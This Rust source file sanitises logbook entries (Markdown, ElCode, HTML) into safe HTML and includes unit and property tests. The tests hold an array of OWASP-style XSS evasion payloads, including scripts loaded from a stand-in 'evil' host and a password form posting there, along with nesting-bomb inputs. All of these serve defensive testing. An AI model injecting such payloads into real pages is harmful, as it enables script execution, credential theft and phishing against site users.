//! The HTML of an entry, safe to put into a page.
//!
//! Every text, of any markup, is converted to HTML first. An allow list then sanitises the HTML. So the result has no
//! scripts, event handlers, frames or forms. It has only a few styles, and only addresses of harmless schemes. No text
//! is trusted because of its author or its source.

use std::{borrow::Cow, collections::HashSet, sync::LazyLock};

use ammonia::{Builder, UrlRelative};
use percent_encoding::percent_decode_str;
use pulldown_cmark::{Options, Parser, html};
use tampu_workers::Stop;

use crate::{elcode, entry::Encoding};

pub mod cache;
pub mod inputs;
mod measure;
pub mod room;

/// Bytes of a text that is shown with its marks. A longer one is shown as source, which costs little.
pub const MAX_MARKUP: usize = 1 << 20;
/// Events of a Markdown text between two looks at the signal to stop.
const EVENTS: usize = 256;

/// Returns the address of the entry that `elog:12` names.
pub type EntryLink<'a> = &'a dyn Fn(&str) -> String;

/// Parameters of ELOG's addresses that trigger an action: a command, a login.
const COMMANDS: [&str; 4] = ["cmd", "jcmd", "uname", "unm"];

/// The style properties that are allowed.
const STYLES: [&str; 12] = [
    "color",
    "background-color",
    "font-family",
    "font-size",
    "font-style",
    "font-weight",
    "text-align",
    "text-decoration",
    "width",
    "height",
    "border",
    "vertical-align",
];

static CLEANER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut cleaner = Builder::default();
    cleaner
        .add_tags(["font", "u", "input", "figure", "figcaption"])
        .add_generic_attributes(["style", "align", "title"])
        .add_tag_attributes("font", ["color", "face", "size"])
        .add_tag_attributes("table", ["border", "cellpadding", "cellspacing"])
        .add_tag_attributes("code", ["class"])
        // The boxes of task lists, which cannot be ticked. Other fields are removed afterwards.
        .add_tag_attributes("input", ["type", "checked", "disabled"])
        .set_tag_attribute_value("input", "disabled", "")
        .filter_style_properties(HashSet::from(STYLES))
        // A reference to a file that is not stored yet: a form's script shows it in a preview.
        .url_schemes(HashSet::from(["http", "https", "mailto", "elog", "attachment"]))
        .url_relative(UrlRelative::PassThrough)
        .link_rel(Some("noopener noreferrer nofollow"))
        .attribute_filter(attribute_value);
    cleaner
});

/// Removes addresses from styles, and all classes but the language of a code block.
fn attribute_value<'a>(element: &str, attribute: &str, value: &'a str) -> Option<Cow<'a, str>> {
    let lower = value.to_ascii_lowercase();
    match attribute {
        "style" if lower.contains("url(") || lower.contains("expression") || lower.contains('\\') => None,
        "class" if element != "code" || !value.starts_with("language-") => None,
        "src" if commands(value) => None,
        "type" => inputs::box_type(value),
        _ => Some(Cow::Borrowed(value)),
    }
}

/// Returns whether an address triggers an action, as ELOG's `?cmd=Logout` does. A page must not load such an address by itself.
fn commands(address: &str) -> bool {
    let query = address.split_once('?').map_or("", |(_, query)| query.split('#').next().unwrap_or_default());
    query.split(['&', ';']).any(|part| {
        let name = part.split('=').next().unwrap_or_default().replace('+', " ");
        let name = percent_decode_str(&name).decode_utf8_lossy();
        let name = name.trim_matches(|c: char| c.is_whitespace() || c == char::REPLACEMENT_CHARACTER);
        COMMANDS.iter().any(|known| name.eq_ignore_ascii_case(known))
    })
}

/// The note above a text that is shown as source, because its HTML nests too deeply or is too large to be sanitised.
pub const SHOWN_AS_TEXT: &str =
    "<p><em>This text nests too deeply, or is too long, to be shown with its marks. It is shown as it was written.</em></p>\n";

/// The note in place of a text that was not rendered before the time of its request was over.
pub const NOT_RENDERED: &str =
    "<p><em>The time of this request was over before this text was rendered. Open its entry, or try again.</em></p>\n";

/// A text that was not rendered: the client has disconnected, or the time of the request is over.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Unfinished;

/// Renders a text as safe HTML, in bounded work. A text that would take too long is shown as source, below
/// [`SHOWN_AS_TEXT`].
pub fn html(encoding: Encoding, text: &str, entry: EntryLink<'_>) -> String {
    // Without a deadline and with nobody who stops it, rendering always ends with a text.
    html_until(encoding, text, entry, &Stop::default()).unwrap_or_else(|Unfinished| NOT_RENDERED.to_owned())
}

/// Renders a text as [`html`] does, until it is stopped.
pub fn html_until(encoding: Encoding, text: &str, entry: EntryLink<'_>, stop: &Stop) -> Result<String, Unfinished> {
    let go_on = || if stop.is_stopped() { Err(Unfinished) } else { Ok(()) };
    go_on()?;
    if text.len() > MAX_MARKUP && encoding != Encoding::Plain {
        return Ok(SHOWN_AS_TEXT.to_owned() + &as_written(text));
    }
    let raw = match encoding {
        Encoding::Markdown => {
            let options =
                Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS | Options::ENABLE_FOOTNOTES;
            let mut out = String::with_capacity(text.len() * 3 / 2);
            let mut since = 0usize;
            let events = Parser::new_ext(text, options).take_while(|_| {
                since += 1;
                !since.is_multiple_of(EVENTS) || !stop.is_stopped()
            });
            html::push_html(&mut out, events);
            out
        }
        Encoding::Plain if text.len() > MAX_MARKUP => return Ok(as_written(text)),
        Encoding::Plain => {
            let mut out = String::with_capacity(text.len() * 5 / 4);
            out.push_str("<pre>");
            elcode::linked(text, entry, &mut out);
            out.push_str("</pre>");
            return Ok(out);
        }
        Encoding::ElCode => elcode::to_html(text, entry),
        Encoding::Html => text.to_owned(),
    };
    let is_bounded = measure::is_bounded(&raw, stop);
    go_on()?;
    Ok(if is_bounded {
        inputs::without_fields(CLEANER.clean(&raw).to_string())
    } else {
        SHOWN_AS_TEXT.to_owned() + &as_written(text)
    })
}

/// Renders a text as its source.
fn as_written(text: &str) -> String {
    let mut out = String::with_capacity(text.len() * 5 / 4);
    out.push_str("<pre>");
    elcode::plain(text, &mut out);
    out.push_str("</pre>");
    out
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn shown(encoding: Encoding, text: &str) -> String {
        html(encoding, text, &|target| format!("../{target}"))
    }

    #[test]
    fn what_is_harmless_is_shown() {
        for (encoding, text, expected) in [
            (Encoding::Markdown, "**HV** `trip`", "<p><strong>HV</strong> <code>trip</code></p>\n"),
            (Encoding::Plain, "a < b\n  c", "<pre>a &lt; b\n  c</pre>"),
            (
                Encoding::Plain,
                "see elog:12, (https://a.b/c?d=1&e).",
                "<pre>see <a href=\"../12\">elog:12</a>, \
                 (<a href=\"https://a.b/c?d=1&amp;e\" rel=\"noopener noreferrer nofollow\">https://a.b/c?d=1&amp;e</a>).</pre>",
            ),
            (Encoding::ElCode, "[b]x[/b] [color=red]y[/color]", "<b>x</b> <span style=\"color:red\">y</span>"),
            (
                Encoding::Html,
                "<p align=\"center\"><font color=\"red\">x</font></p>",
                "<p align=\"center\"><font color=\"red\">x</font></p>",
            ),
            (Encoding::Html, "<img src=\"plot.png\" width=\"5\">", "<img src=\"plot.png\" width=\"5\">"),
        ] {
            assert_eq!(shown(encoding, text), expected, "{text}");
        }
        let link = shown(Encoding::ElCode, "elog:12 [url=https://a.b/]c[/url]");
        assert!(link.contains("href=\"../12\"") && link.contains("href=\"https://a.b/\""), "{link}");
        assert!(shown(Encoding::Markdown, "|a|b|\n|-|-|\n|1|2|").contains("<td>1</td>"));
    }

    #[test]
    fn a_field_is_a_box_or_is_left_out() {
        let ticked = "<input type=\"checkbox\" checked=\"\" disabled=\"\">";
        for (text, expected) in [
            ("a <input> b", "a  b"),
            ("<input type=text name=\"a\" value=\"b\">c", "c"),
            ("<input type=password>", ""),
            ("<input type=radio checked>", ""),
            ("<input type=submit value=\"type=&quot;checkbox&quot;\">", ""),
            ("<input title=' type=\"checkbox\"'>", ""),
            ("<input type=CheckBox checked>", ticked),
            ("<p title=\"<input\">c</p>", "<p title=\"&lt;input\">c</p>"),
        ] {
            let shown = shown(Encoding::Html, text);
            let same = |html: &str| {
                let mut parts: Vec<_> =
                    html.split_inclusive([' ', '>']).map(|part| part.trim_matches([' ', '>']).to_owned()).collect();
                parts.sort();
                parts
            };
            assert_eq!(same(&shown), same(expected), "{text}: {shown}");
        }
        let list = shown(Encoding::Markdown, "- [x] done <input name=a>\n- [ ] open\n");
        assert_eq!((list.matches("<input").count(), inputs::inputs(&list).len()), (2, 2), "{list}");
    }

    #[test]
    fn rendering_ends_with_its_request() {
        let link: EntryLink<'_> = &|_| String::new();
        let over = [Stop::after(std::time::Duration::ZERO), Stop::default()];
        over[1].stop();
        for stop in &over {
            for encoding in Encoding::ALL {
                assert_eq!(html_until(encoding, "x", link, stop), Err(Unfinished), "{encoding:?}");
            }
        }
        assert_eq!(html_until(Encoding::Markdown, "*x*", link, &Stop::default()).as_deref(), Ok("<p><em>x</em></p>\n"));
    }

    #[test]
    fn a_very_long_text_is_shown_as_source() {
        for encoding in [Encoding::Markdown, Encoding::ElCode, Encoding::Html] {
            let long = shown(encoding, &"&amp;".repeat(MAX_MARKUP / 5 + 1));
            assert!(long.starts_with(SHOWN_AS_TEXT) && long.contains("&amp;amp;"), "{encoding:?}");
            assert!(!shown(encoding, &"&amp; ".repeat(1000)).contains(SHOWN_AS_TEXT), "{encoding:?}");
        }
        assert!(!shown(Encoding::Plain, &"x ".repeat(MAX_MARKUP)).contains(SHOWN_AS_TEXT));
    }

    #[test]
    fn no_picture_is_a_command() {
        for address in [
            "?cmd=Logout",
            "../Shift/12?a=1&CMD=Delete&confirm=Yes",
            "https://site/elog/12?x;%63md=Edit#a",
            "?uname=a&upassword=b",
        ] {
            for (encoding, text) in [
                (Encoding::Html, format!("<img src=\"{}\">", address.replace('&', "&amp;"))),
                (Encoding::Markdown, format!("![a]({address})")),
                (Encoding::ElCode, format!("[img]{address}[/img]")),
            ] {
                assert!(!shown(encoding, &text).contains("src="), "{encoding:?} {text}: {}", shown(encoding, &text));
            }
        }
        for harmless in ["plot.png", "cmd=1.png", "12/080910_002050_a.png?thumb=1&command=x#?cmd=1"] {
            let out = shown(Encoding::Html, &format!("<img src=\"{harmless}\">"));
            assert!(out.contains("src="), "{out}");
        }
        // A user follows a link on purpose, and has to confirm the command.
        assert!(shown(Encoding::Html, "<a href=\"?cmd=Logout\">x</a>").contains("href="));
    }

    #[test]
    fn what_is_made_to_take_for_ever_is_shown_as_it_was_written() {
        for (encoding, bomb) in [
            (Encoding::Html, "<div>".repeat(200_000)),
            (Encoding::Markdown, ">".repeat(50_000) + "x"),
            (Encoding::Markdown, "<div>\n\n".repeat(50_000)),
        ] {
            let out = shown(encoding, &bomb);
            assert!(out.starts_with(SHOWN_AS_TEXT) && out.ends_with("</pre>"), "{encoding:?}: {:.200}", out);
        }
        // Text that only looks nested is still rendered.
        for (encoding, harmless) in [
            (Encoding::ElCode, "[".repeat(MAX_MARKUP)),
            (Encoding::ElCode, "[b".repeat(MAX_MARKUP / 2)),
            (Encoding::ElCode, "[b]".repeat(200_000)),
            (Encoding::Plain, "<div>".repeat(1 << 20)),
        ] {
            assert!(!shown(encoding, &harmless).starts_with(SHOWN_AS_TEXT), "{harmless:.40}");
            let _ = crate::plain::plain(encoding, &harmless);
        }
    }

    /// Attacks after OWASP's list of filter evasions.
    const ATTACKS: [&str; 44] = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=JaVaScRiPt:alert(1)>",
        "<IMG SRC=`javascript:alert(1)`>",
        "<a onmouseover=\"alert(1)\">x</a>",
        "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
        "<IMG SRC=# onmouseover=\"alert('x')\">",
        "<IMG SRC=/ onerror=\"alert(1)\"></img>",
        "<img src=x onerror=\"&#0000106&#0000097alert(1)\">",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)>",
        "<IMG SRC=\"jav\tascript:alert(1);\">",
        "<IMG SRC=\"jav&#x0A;ascript:alert(1);\">",
        "<IMG SRC=\" &#14; javascript:alert(1);\">",
        "<SCRIPT/XSS SRC=\"http://evil/x.js\"></SCRIPT>",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
        "<<SCRIPT>alert(1);//\\<</SCRIPT>",
        "<IMG SRC=\"('XSS')\"",
        "</TITLE><SCRIPT>alert(1);</SCRIPT>",
        "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert(1);\">",
        "<BODY BACKGROUND=\"javascript:alert(1)\">",
        "<IMG DYNSRC=\"javascript:alert(1)\">",
        "<STYLE>li {list-style-image: url(\"javascript:alert(1)\");}</STYLE><UL><LI>x",
        "<svg/onload=alert(1)>",
        "<BGSOUND SRC=\"javascript:alert(1);\">",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert(1);\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert(1);\">",
        "<IFRAME SRC=\"javascript:alert(1);\"></IFRAME>",
        "<FRAMESET><FRAME SRC=\"javascript:alert(1);\"></FRAMESET>",
        "<DIV STYLE=\"background-image: url(javascript:alert(1))\">x</DIV>",
        "<DIV STYLE=\"width: expression(alert(1));\">x</DIV>",
        "<DIV STYLE=\"color: red; behavior: url(x.htc)\">x</DIV>",
        "<BASE HREF=\"javascript:alert(1);//\">",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://evil/x.html\"></OBJECT>",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz4=\" AllowScriptAccess=\"always\"></EMBED>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<form action=\"http://evil/\"><input name=password><button>go</button></form>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<svg><style><a title=\"</style><img src=1 onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
    ];

    fn assert_harmless(out: &str, of: &str) {
        let lower = out.to_ascii_lowercase();
        for element in [
            "script", "iframe", "frame", "object", "embed", "style", "link", "meta", "base", "form", "button", "svg", "math",
            "body", "template",
        ] {
            assert!(!lower.contains(&format!("<{element}")), "{of}\nbecame {out}");
        }
        for tag in lower.split('<').skip(1).filter_map(|tag| tag.split_once('>').map(|(tag, _)| tag)) {
            let outside: String = tag.split('"').step_by(2).collect();
            let handler = outside.split_whitespace().skip(1).any(|word| word.starts_with("on"));
            assert!(!handler, "{of}\nbecame {out}");
            // Names and values alternate. A `title` or `alt` is only shown or read aloud, so it may have any value.
            let parts: Vec<&str> = tag.split('"').collect();
            for pair in parts.chunks_exact(2).filter(|pair| !pair[0].ends_with("title=") && !pair[0].ends_with("alt=")) {
                let value: String = pair[1].chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
                for scheme in ["javascript:", "vbscript:", "data:"] {
                    assert!(!value.starts_with(scheme) && !value.contains(&format!("url({scheme}")), "{of}\nbecame {out}");
                }
                assert!(!value.contains("expression(") && !value.contains("behavior"), "{of}\nbecame {out}");
            }
        }
    }

    #[test]
    fn nothing_of_owasps_list_comes_through() {
        for attack in ATTACKS {
            for encoding in Encoding::ALL {
                assert_harmless(&shown(encoding, attack), attack);
            }
        }
        for (encoding, attack) in [
            (Encoding::Markdown, "[x](javascript:alert(1))"),
            (Encoding::Markdown, "![x](javascript:alert(1))"),
            (Encoding::Markdown, "<javascript:alert(1)>"),
            (Encoding::Markdown, "[x]: javascript:alert(1)\n\n[x]"),
            (Encoding::Markdown, "[x](data:text/html;base64,PHNjcmlwdD4=)"),
            (Encoding::Markdown, "```\"onmouseover=alert(1)\nx\n```"),
            (Encoding::ElCode, "[url=javascript:alert(1)]x[/url]"),
            (Encoding::ElCode, "[img]javascript:alert(1)[/img]"),
            (Encoding::ElCode, "[url]http://a\" onclick=\"alert(1)[/url]"),
            (Encoding::ElCode, "[color=red\" onclick=\"alert(1)]x[/color]"),
            (Encoding::ElCode, "[font=x;background:url(javascript:alert(1))]x[/font]"),
            (Encoding::ElCode, "[code]</code></pre><script>alert(1)</script>[/code]"),
        ] {
            assert_harmless(&shown(encoding, attack), attack);
        }
    }

    proptest! {
        #[test]
        fn pieces_of_attacks_are_harmless_too(parts in proptest::collection::vec((0..ATTACKS.len(), 0..60usize, 0..60usize), 1..4), encoding in 0..4usize) {
            let text: String = parts
                .into_iter()
                .map(|(at, from, to)| ATTACKS[at].chars().skip(from.min(to)).take(from.abs_diff(to)).collect::<String>())
                .collect();
            assert_harmless(&shown(Encoding::ALL[encoding], &text), &text);
        }
    }
}
